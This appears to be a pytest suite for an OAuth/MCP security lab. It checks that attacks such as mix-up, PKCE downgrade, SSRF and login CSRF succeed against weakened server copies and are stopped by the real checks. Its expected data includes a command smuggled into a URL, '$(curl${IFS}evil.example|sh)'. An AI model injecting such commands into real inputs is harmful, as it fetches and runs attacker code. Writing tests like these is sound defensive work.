"""Every attack of SECURITY.md: it succeeds against a copy without the one check, and the check stops it here."""

from __future__ import annotations

import ast
import re
from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.types import ASGIApp

import mcp_oauth_nb
from mcp_oauth_nb import HttpLab, Lab
from mcp_oauth_nb.lab import attacks
from mcp_oauth_nb.lab.attacks import weakened as fronts
from mcp_oauth_nb.lab.attacks.cast import Browser, ByHand, code_of, form_of, said, whose_data
from mcp_oauth_nb.lab.attacks.outcome import Outcome, Plot, Refused, Table
from mcp_oauth_nb.oauth.errors import (
    ConfigurationError,
    InsufficientScope,
    InvalidAuthorizationCode,
    IssuerMismatch,
    McpOAuthError,
    ProtocolError,
    RedirectRefused,
    SecurityError,
    StateMismatch,
)
from mcp_oauth_nb.oauth.pkce import PKCE

IMPORTS = (ast.Import, ast.ImportFrom)
pytestmark = pytest.mark.anyio

VICTIM = {"data of": "octocat"}
DOWNGRADES = (
    "token, challenge taken out of the request",
    "token, challenge taken out, and a verifier made up",
    "token, method plain, and the challenge as verifier",
    "token, verifier left out of the exchange",
    "token, PKCE not announced",
)

# name -> what the attacker has in the end, and the error at which it ends with the check.
EXPECTED: dict[str, tuple[dict[str, str], type[McpOAuthError], str]] = {
    "redirect_uri_abuse": ({"codes": "4", **VICTIM}, ProtocolError, "400 with the page 'Unknown address'"),
    "leak": ({"code, from the Referer": "*"}, Refused, "None of the victim's four secrets"),
    "mix_up": (
        {"code verifier": "*", **VICTIM},
        IssuerMismatch,
        r"names the issuer https://mcp\.example, but the person was sent to https://evil\.example",
    ),
    "code_injection": ({"a session as": "octocat"}, InvalidAuthorizationCode, "bad_verification_code"),
    "login_csrf": ({"the victim works as": "mallory"}, StateMismatch, "belongs to no authorization request"),
    "pkce_downgrade": (
        {**dict.fromkeys(DOWNGRADES, "mcp_*"), **VICTIM},
        Refused,
        "invalid_request: code_challenge is required",
    ),
    "wrong_audience": (VICTIM, Refused, "invalid_token: The access token was not issued for this resource"),
    "token_passthrough": (VICTIM, Refused, "invalid_token: The access token is unknown"),
    "open_redirector": (
        {"a visitor at": "https://evil.example/sign-in"},
        Refused,
        '400 with the page "Unknown address"',
    ),
    "redirect_replay": ({"code": "*", "code verifier": "*", "client secret": "*"}, RedirectRefused, "answered 307"),
    "refresh_replay": (VICTIM, Refused, "invalid_grant"),
    "clickjacking": (VICTIM, Refused, "does not show .* frame-ancestors 'none'"),
    "callback_hijack": ({"code": "*", "state": "*"}, ConfigurationError, "Port … of 127.0.0.1 cannot be listened on"),
    "ssrf": ({"requests from inside": "6"}, Refused, 'answered 400 with the page "Unknown client", six times'),
    "ssrf_in_discovery": ({"requests from inside": "5"}, SecurityError, "further inside the network"),
    "command_in_url": (
        {"started by their scheme": "javascript, file, vscode", "a shell that runs": "$(curl"},
        SecurityError,
        "must be an http",
    ),
    "confused_deputy": (VICTIM, Refused, 'asked the victim first, with the page "Authorize Free stickers"'),
    "issuer_switch": (VICTIM, Refused, "Nothing that https://mcp.example has given went to https://evil.example"),
    "step_up_loop": ({"consent pages opened": "5"}, InsufficientScope, "asking for it did not help"),
    "localhost_impersonation": (VICTIM, Refused, 'asked the victim first, with the page "Authorize Notebook"'),
    "session_hijack": (VICTIM, Refused, "404 Session not found"),
    "forwarded_host": (
        {"the victim's client": "is sent to https://evil.example"},
        Refused,
        "names https://mcp.example,",
    ),
}


class Ran:
    """All attacks, run once in two labs that stay open."""

    def __init__(self, lab: Lab, http_lab: HttpLab, table: Table):
        self.lab, self.http_lab, self.table = lab, http_lab, table

    def outcome(self, name: str, *, defence: bool) -> Outcome:
        return next(one for one in self.table.outcomes if one.attack.name == name and one.defence is defence)


@pytest.fixture(scope="module")
async def ran() -> AsyncIterator[Ran]:
    async with Lab.open() as lab, HttpLab.open() as http_lab:
        yield Ran(lab, http_lab, await attacks.run_all(lab, http_lab))


@pytest.fixture
async def lab() -> AsyncIterator[HttpLab]:
    async with HttpLab.open() as opened:
        yield opened


# -- each of them --------------------------------------------------------------------------------------------------


def test_every_row_of_the_table_is_an_attack_and_every_attack_has_its_test() -> None:
    assert {one.row for one in attacks.ATTACKS} == set(range(1, 21))
    assert [one.row for one in attacks.ATTACKS] == sorted(one.row for one in attacks.ATTACKS)
    assert {one.name for one in attacks.ATTACKS} == set(EXPECTED)
    assert all(getattr(attacks, one.name) is one and one.name in attacks.__all__ for one in attacks.ATTACKS)


@pytest.mark.parametrize("name", EXPECTED)
async def test_without_the_check_the_attacker_gets_what_they_want(ran: Ran, name: str) -> None:
    outcome = ran.outcome(name, defence=False)
    assert outcome.succeeded, outcome
    for what, value in EXPECTED[name][0].items():
        assert outcome.obtained[what].startswith(value)
    assert "The attacker got" in repr(outcome)
    assert "The check that was missing: " in repr(outcome)


@pytest.mark.parametrize("name", EXPECTED)
async def test_with_the_check_it_is_stopped_there_and_nothing_is_got(ran: Ran, name: str) -> None:
    outcome = ran.outcome(name, defence=True)
    _, kind, text = EXPECTED[name]
    assert type(outcome.stopped_by) is kind
    assert re.search(text, outcome.stopped_by.message)
    assert not outcome.succeeded
    assert outcome.obtained == {}
    assert "Stopped by" in repr(outcome)


async def test_the_more_that_an_attack_tries_is_stopped_too(ran: Ran) -> None:
    steps = [
        ("pkce_downgrade", "code_challenge_method must be S256"),
        ("pkce_downgrade", "answered 400 invalid_request: code_verifier is required"),
        ("pkce_downgrade", r"The authorization server https://mcp\.example does not announce PKCE with S256"),
        ("refresh_replay", "the victim's newest tokens are dead as well"),
        ("callback_hijack", "A forged callback, the genuine one, a second one: 400, 200, (409|closed)"),
        ("confused_deputy", 'The server answers 400 with the page "Start again"'),
        ("localhost_impersonation", "The answer goes to a program on your own device"),
        ("issuer_switch", r"comes to https://evil\.example as a stranger \(\S+, /register\), and asks the person"),
        ("step_up_loop", "asks the person once, in vain"),
        ("command_in_url", r"becomes the command xdg-open '\S+=\$\(curl\$\{IFS\}evil\.example\|sh\)&state=s'$"),
    ]
    for name, text in steps:
        outcome = ran.outcome(name, defence=True)
        assert any(re.search(text, step) for step in outcome.steps), outcome


class EndsRefreshAlone(fronts.Front):
    """A server where the access tokens of a family outlive its refresh tokens."""

    def __init__(self, server: ASGIApp):
        super().__init__(server)
        self._used: set[str] = set()
        self._over = False

    async def handle(self, request: httpx.Request) -> httpx.Response:
        token = form_of(request).get("refresh_token") if request.url.path == "/token" else None
        if token is not None:
            self._over |= token in self._used
            self._used.add(token)
        if token is not None and self._over:
            return httpx.Response(400, json={"error": "invalid_grant"})
        return await super().handle(request)


async def test_tokens_are_called_dead_only_if_all_of_them_are(lab: HttpLab) -> None:
    with lab.network.instead(EndsRefreshAlone):
        outcome = await attacks.refresh_replay(lab, defence=True)
    assert outcome.stopped_by is not None
    assert "which of the two is the thief" in outcome.steps[-1]


async def test_no_secret_is_in_an_outcome_or_in_the_trace(ran: Ran) -> None:
    texts = [repr(one) + repr(vars(one)) for one in ran.table.outcomes]
    texts += [repr(ran.lab.trace), *map(str, ran.lab.trace.exchanges), *map(str, ran.http_lab.trace.exchanges)]
    secrets = ran.lab.github.issued_secrets() | ran.http_lab.github.issued_secrets()
    assert not [secret for secret in secrets for text in texts if secret in text]
    # The tokens of the lab's authorization server; a code challenge is no secret, and looks like one.
    assert not [text for text in texts if re.search(r"mcp_[A-Za-z0-9\-_]{20,}", text)]


async def test_afterwards_the_labs_are_as_good_as_before(ran: Ran) -> None:
    assert not (await ran.http_lab.session.call_tool("get_github_user_info")).is_error
    await ran.lab.session.call_tool("get_github_user_info", authorize=ran.lab.authorize)
    assert ran.http_lab.github.knobs.tokens_per_hour == Lab(7, **DEFAULTS).github.knobs.tokens_per_hour


DEFAULTS: dict[str, Any] = {"user": "octocat", "mode": "auto", "sampling": None, "loop": "thread", "settings": {}}


async def test_the_table_shows_all_of_them_without_and_with(ran: Ran) -> None:
    assert ran.table.holds
    assert len(repr(ran.table).splitlines()) == 1 + len(attacks.ATTACKS)
    assert repr(ran.table).count("succeeds   fails") == len(attacks.ATTACKS)
    html = ran.table._repr_html_()
    assert html.count("<tr>") == 1 + len(attacks.ATTACKS)
    assert "<td" in html
    unstopped = Table(ran.table.outcomes[::2] + ran.table.outcomes[::2])
    assert not unstopped.holds


# -- how they are run ----------------------------------------------------------------------------------------------


async def test_the_same_attack_tells_the_same_story_in_another_lab(lab: HttpLab) -> None:
    async with HttpLab.open() as other:
        stories = [repr(await attacks.mix_up(each, defence=False)) for each in (lab, other)]
    assert stories[0] == stories[1]


async def test_an_attack_says_which_lab_it_needs(lab: HttpLab) -> None:
    assert "attacks.leak(lab, ...)" in repr(attacks.leak)
    assert "attacks.mix_up(httplab, ...)" in repr(attacks.mix_up)
    with pytest.raises(TypeError, match="takes place in a Lab"):
        await attacks.leak(lab, defence=True)  # type: ignore[arg-type]


async def test_an_attack_that_gets_nothing_has_not_succeeded(lab: HttpLab) -> None:
    async def idle(lab: HttpLab, plot: Plot) -> None:
        plot.step("Nothing happens.")

    one = attacks.Attack("idle", 99, "Idle", HttpLab, "there is none", "RFC 1149", idle)
    outcome = await one(lab, defence=False)
    assert not outcome.succeeded
    assert "got nothing" in repr(outcome)
    assert "| -" in repr(Table((outcome, outcome))).replace("fails  -", "| -")


def test_no_setting_of_library_or_server_leads_to_the_attacks() -> None:
    package = Path(mcp_oauth_nb.__file__).parent
    others = [path for path in package.rglob("*.py") if not {"attacks", "exercises"} & set(path.parts)]
    for path in others:
        imports = [node for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, IMPORTS)]
        names = {alias.name for node in imports for alias in node.names}
        names |= {node.module or "" for node in imports if isinstance(node, ast.ImportFrom)}
        assert not [name for name in names if "attacks" in name.split(".") or name.endswith("debugger.faults")], path


# -- the copies have one check less, and no more -------------------------------------------------------------------

FRONTS = {
    "LooseRedirects": partial(fronts.LooseRedirects, registered="http://127.0.0.1/callback"),
    **{kind.__name__: kind for kind in (fronts.ErrorsFirst, fronts.OptionalPkce, fronts.NoRotation, fronts.Frameable)},
    **{kind.__name__: kind for kind in (fronts.NoConsent, fronts.RemembersConsent, fronts.MetadataByHost)},
}


@pytest.mark.parametrize("name", FRONTS)
async def test_an_honest_client_does_not_notice_which_check_is_missing(lab: HttpLab, name: str) -> None:
    with lab.network.instead(FRONTS[name]):
        client, person = ByHand(lab), await Browser(lab).sign_in()
        tokens = await client.authorize(person)
        assert await whose_data(lab, tokens["access_token"]) == "octocat"
        refreshed = await client.refresh(tokens["refresh_token"])
        assert await whose_data(lab, refreshed["access_token"]) == "octocat"
        assert not (await lab.session.call_tool("get_github_user_info")).is_error


@pytest.mark.parametrize("name", FRONTS)
async def test_another_client_cannot_use_the_code_whichever_check_is_missing(lab: HttpLab, name: str) -> None:
    with lab.network.instead(FRONTS[name]):
        client, person = ByHand(lab), await Browser(lab).sign_in()
        thief = await ByHand(lab).register()
        code = code_of(await person.person.authorize(client.url()))
        with pytest.raises(Refused, match="invalid_grant"):
            await thief.exchange(code, redirect_uri=client.redirect_uri)
        wrong = PKCE.from_verifier("w" * 43).code_verifier
        with pytest.raises(Refused, match="invalid_grant"):
            await client.exchange(code, code_verifier=wrong)


async def test_an_answer_is_told_in_a_few_words(lab: HttpLab) -> None:
    assert said(await lab.http.get("/consent")) == 'with the page "Start again"'
    unknown = {"grant_type": "x", "client_id": lab.registered_client.client_id}
    assert said(await lab.http.post("/token", data=unknown)).startswith("unsupported_grant_type: The grant")
    assert said(await lab.http.get("/health", headers={"Host": "evil.example"})) != ""
    assert said(await lab.http.get("/authorize", headers={"Host": "evil.example"})) == "Invalid Host header"
